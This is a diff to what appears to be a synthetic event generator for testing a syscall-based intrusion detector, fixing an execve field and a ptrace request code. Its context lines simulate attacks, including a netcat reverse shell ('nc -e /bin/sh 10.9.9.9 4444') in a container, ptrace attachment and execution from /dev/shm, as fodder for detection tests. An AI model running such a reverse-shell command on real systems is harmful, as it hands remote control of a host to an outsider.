@@ -295,7 +295,7 @@ class Stream:
                   pid=parent.pid, ptid=1, cwd="/", fdlimit=1024, pgft_maj=0, pgft_min=0,
                   vm_size=1000, vm_rss=100, vm_swap=0, comm=parent.comm, cgroups=cgroups,
                   flags=0, uid=0, gid=0, vtid=child, vpid=child)  # fmt: skip
-        self.emit(child, "execve", res=0, exe=comm, args="\0".join(args).encode() + b"\0",
+        self.emit(child, "execve", res=0, exe=exe, args="\0".join(args).encode() + b"\0",
                   tid=child, pid=child, ptid=parent.pid, cwd="/root", fdlimit=1024,
                   pgft_maj=0, pgft_min=0, vm_size=1000, vm_rss=100, vm_swap=0, comm=comm,
                   cgroups=cgroups, env=b"PATH=/usr/bin:/bin\0", tty=0, vpgid=child,
@@ -330,7 +330,8 @@ class Stream:
             args = ["-e", "/bin/sh", "10.9.9.9", "4444"]
             self.spawn(self.container_proc, "/usr/bin/nc", "nc", args, container=True)
         elif kind == 2:  # PTRACE attached to process
-            self.emit(self.shell.tid, "ptrace", res=0, addr=b"", data=b"", request=16,
+            # The drivers report requests as PPM codes: PPM_PTRACE_ATTACH is 11.
+            self.emit(self.shell.tid, "ptrace", res=0, addr=b"", data=b"", request=11,
                       pid=self.procs[5].pid)  # fmt: skip
         else:  # Execution from /dev/shm
             self.spawn(self.shell, "/dev/shm/x", "x", [])
